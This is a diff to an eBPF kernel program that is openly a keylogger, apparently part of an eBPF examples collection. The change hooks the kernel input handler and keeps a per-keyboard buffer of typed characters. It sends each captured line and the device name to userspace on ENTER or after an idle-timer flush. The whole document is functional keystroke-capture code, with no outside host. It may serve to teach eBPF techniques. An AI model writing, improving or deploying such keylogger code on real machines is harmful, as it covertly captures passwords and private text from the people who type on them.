@@ -7,50 +7,94 @@
 #include "keylogger.h"
 
 
+// ****************************************
+// Global variables
+// ****************************************
+
+// Userspace is woken up once `wakeup_batch` events wait in the ring
+// buffer, or `wakeup_interval_ms` after the first of them (see
+// ringbuf_wakeup.h), 1: kernel default only
+const volatile int wakeup_batch = 1;
+const volatile int wakeup_interval_ms = 100;
+
+// # of events lost because the ring buffer was full
+__u64 dropped_events = 0;
+
+// Size of the buffered message (1..MAX_BUFFER_SIZE)
+const volatile int buffer_size = BUFFER_SIZE;
+
+// The message is also sent (and cleared) once no key has been typed for
+// `flush_interval_ms`, not only on ENTER (0: never). A bpf_timer per
+// keyboard, re-armed on each key, so nothing waits for the next key press
+const volatile int flush_interval_ms = 0;
+
+// # of keyboards tracked at once
+#define MAX_DEVICES 64
+
+// Clock of the flush timers (a #define, not in vmlinux.h)
+#define CLOCK_MONOTONIC 1 // @ include/uapi/linux/time.h
+
+
 // ****************************************
 // Data structures
 // ****************************************
 
-// Event state data structure
+// Event state data structure (one per keyboard)
 struct key_data {
-    char buffer[BUFFER_SIZE];   // the circular buffer
+    char buffer[MAX_BUFFER_SIZE];   // the circular buffer (buffer_size bytes of it)
     __u32 pos;  // curr position in buffer
     __u32 size; // curr size of buffer
+    struct bpf_timer flush_timer;   // fires flush_interval_ms after the last key
     bool shift_pressed; // bool to track the state of the shift key
     bool capslock_on;   // bool to track capslock state
 };
 
-// Map to store the key state and buffer
+// Map to store the key state and buffer of each keyboard (map[input_dev address]=state),
+// so that keyboards typed on at once don't mix their messages
+// (LRU: unplugged keyboards never remove their entry, they make room for new ones)
 struct {
-    __uint(type, BPF_MAP_TYPE_ARRAY);
-    __uint(key_size, sizeof(__u32));
+    __uint(type, BPF_MAP_TYPE_LRU_HASH);
+    __uint(key_size, sizeof(__u64));
     __uint(value_size, sizeof(struct key_data));
-    __uint(max_entries, 1);
+    __uint(max_entries, MAX_DEVICES);
 } key_data_map SEC(".maps");
 
-// The perf buffer to send notifs to userspace
+// The ring buffer to send notifs to userspace
+// (shared by all CPUs: events are written in place and arrive in order)
 struct {
-    __uint(type, BPF_MAP_TYPE_PERF_EVENT_ARRAY);
-    __uint(key_size, sizeof(__u32));
-    __uint(value_size, sizeof(__u32));
-} perf_map SEC(".maps");
+    __uint(type, BPF_MAP_TYPE_RINGBUF);
+    __uint(max_entries, 64 * 1024); // bytes, a power of 2 multiple of the page size
+} events SEC(".maps");
+
+#define RINGBUF_WAKEUP_MAP events
+#include "../../common/ringbuf_wakeup.h"
 
 
 // ****************************************
 // Helpers
 // ****************************************
 
+// size of the circular buffer (buffer_size, within bounds)
+static __always_inline __u32 capacity(void)
+{
+    if (buffer_size < 1)
+        return 1;
+    if (buffer_size > MAX_BUFFER_SIZE)
+        return MAX_BUFFER_SIZE;
+    return buffer_size;
+}
+
 // function to add a char to the buffer
 static inline void add_char(struct key_data *data, char c)
 {
     // explicit bounds check - otherwise get error when loading eBPF prog
-    if (data->pos >= BUFFER_SIZE)
+    if (data->pos >= MAX_BUFFER_SIZE)
         return;
 
     data->buffer[data->pos] = c;    // add the char to the buffer
     // update the position and size of the buffer
-    data->pos = (data->pos + 1) % BUFFER_SIZE;
-    if (data->size < BUFFER_SIZE) {
+    data->pos = (data->pos + 1) % capacity();
+    if (data->size < capacity()) {
         data->size++;
     }
 }
@@ -66,7 +110,7 @@ static inline void remove_last_char(struct key_data *data)
         }
 
         if (data->pos == 0) {
-            data->pos = BUFFER_SIZE - 1;
+            data->pos = capacity() - 1;
         } else {
             data->pos--;
         }
@@ -80,6 +124,51 @@ static inline void clear_buffer(struct key_data *data)
     data->pos = 0;
 }
 
+// function to send the buffered message to userspace, oldest char first
+static inline void flush_buffer(struct key_data *data, struct input_dev *dev)
+{
+    // (a) reserve the output structure right in the ring buffer
+    struct output_data *output = bpf_ringbuf_reserve(&events, sizeof(*output), 0);
+    if (!output) {
+        __sync_fetch_and_add(&dropped_events, 1); // buffer full
+        return;
+    }
+    __builtin_memset(output, 0, sizeof(*output)); // reserved memory is not zeroed
+
+    // (b) copy the content of the circular buffer into the output struct
+    __u32 start = (data->pos + capacity() - data->size) % capacity();
+    for (unsigned int i = 0; i < data->size && i < MAX_BUFFER_SIZE; i++) {
+        __u32 j = (start + i) % capacity();
+        if (j < MAX_BUFFER_SIZE)
+            output->message[i] = data->buffer[j];
+    }
+    // (null-terminated: the message has room for one more byte, and it was zeroed)
+    bpf_probe_read_kernel_str(output->device, sizeof(output->device), BPF_CORE_READ(dev, name));
+
+    // (c) send to uspace
+    ringbuf_submit_batched(output, sizeof(*output));
+}
+
+// flush_timer callback: send what was typed before the pause
+// (the map key is the address of the keyboard)
+static int flush_timer_fire(void *map, __u64 *key, struct key_data *data)
+{
+    if (data->size > 0) {
+        flush_buffer(data, (struct input_dev *)*key);
+        clear_buffer(data);
+    }
+    return 0;
+}
+
+// (re)start the flush timer of a keyboard `flush_interval_ms` from now
+static __always_inline void arm_flush_timer(struct key_data *data)
+{
+    // init fails with -EBUSY after the first time, which is fine
+    bpf_timer_init(&data->flush_timer, &key_data_map, CLOCK_MONOTONIC);
+    if (bpf_timer_set_callback(&data->flush_timer, flush_timer_fire) == 0)
+        bpf_timer_start(&data->flush_timer, (__u64)flush_interval_ms * 1000000, 0);
+}
+
 // function to convert to upper case
 // @ https://www.ascii-code.com/
 static inline char handle_uppercase(char c, bool shift_pressed, bool capslock_on)
@@ -178,10 +267,13 @@ static inline char keycode_to_char(unsigned int code, bool shift_pressed, bool c
 // Hook
 // ****************************************
 
-SEC("kprobe/input_handle_event")
-int BPF_KPROBE(input_handle_event, struct input_dev *dev, unsigned int type, unsigned int code, int value)
+// (fentry rather than a kprobe: the verifier refuses bpf_timer, used by the
+// flush timers and ringbuf_wakeup.h, in kprobe programs)
+SEC("fentry/input_handle_event")
+int BPF_PROG(input_handle_event, struct input_dev *dev, unsigned int type, unsigned int code, int value)
 {
-    // only interested in key events (defined `keylogger.h`)
+    // only interested in key events (defined `keylogger.h`): checked first, the
+    // other ones (mouse moves, sync events, ...) are most of the input events
     // @ https://www.kernel.org/doc/html/v4.17/input/event-codes.html#ev-key
     if (type != EV_KEY)
         return 0;
@@ -191,17 +283,24 @@ int BPF_KPROBE(input_handle_event, struct input_dev *dev, unsigned int type, uns
     if (value != KEY_PRESS && value != KEY_RELEASE)
         return 0;
 
-    // rertrieve the buffer data
-    __u32 key = 0;
-    struct key_data *data = bpf_map_lookup_elem(&key_data_map, &key);
-    if (!data)
+    // only the release of shift matters
+    if (value == KEY_RELEASE && code != KEY_LEFTSHIFT && code != KEY_RIGHTSHIFT)
         return 0;
 
+    // rertrieve the buffer data of this keyboard (created on its first key)
+    __u64 key = (__u64)dev;
+    struct key_data *data = bpf_map_lookup_elem(&key_data_map, &key);
+    if (!data) {
+        struct key_data init = {};
+        bpf_map_update_elem(&key_data_map, &key, &init, BPF_NOEXIST);
+        data = bpf_map_lookup_elem(&key_data_map, &key);
+        if (!data)
+            return 0;
+    }
+
     // handle key release events
     if (value == KEY_RELEASE) {
-        if (code == KEY_LEFTSHIFT || code == KEY_RIGHTSHIFT) {
-            data->shift_pressed = false;
-        }
+        data->shift_pressed = false;
         return 0;
     }
 
@@ -228,23 +327,12 @@ int BPF_KPROBE(input_handle_event, struct input_dev *dev, unsigned int type, uns
             clear_buffer(data);
             break;
 
-        // output to perf buffer in 3 phases:
-        case KEY_ENTER: {
-            // (a) init a new output structure for the perf buffer
-            struct output_data output = {0};
-
-            // (b) copy the content of the circular buffer into the output struct
-            for (unsigned int i = 0; i < data->size && i < BUFFER_SIZE; i++) {
-                output.message[i] = data->buffer[i];
-            }
-            // ensure null-termination
-            // (ok to access output.message[32] as this buffer is 33 bytes -> see `keylogger.h` for the why)
-            output.message[data->size < BUFFER_SIZE ? data->size : BUFFER_SIZE] = '\0';
-
-            // (c) send to uspace
-            bpf_perf_event_output(ctx, &perf_map, BPF_F_CURRENT_CPU, &output, sizeof(output));
-            break;
-        }
+        // output to ring buffer (and no second copy once the keyboard goes idle)
+        case KEY_ENTER:
+            flush_buffer(data, dev);
+            if (flush_interval_ms > 0)
+                bpf_timer_cancel(&data->flush_timer);
+            return 0;
 
         // else deal with the keycode (convert to char and add it to buffer)
         default: {
@@ -256,6 +344,10 @@ int BPF_KPROBE(input_handle_event, struct input_dev *dev, unsigned int type, uns
         }
     }
 
+    // send what is typed once the keyboard stays idle
+    if (flush_interval_ms > 0 && data->size > 0)
+        arm_flush_timer(data);
+
     return 0;
 }
 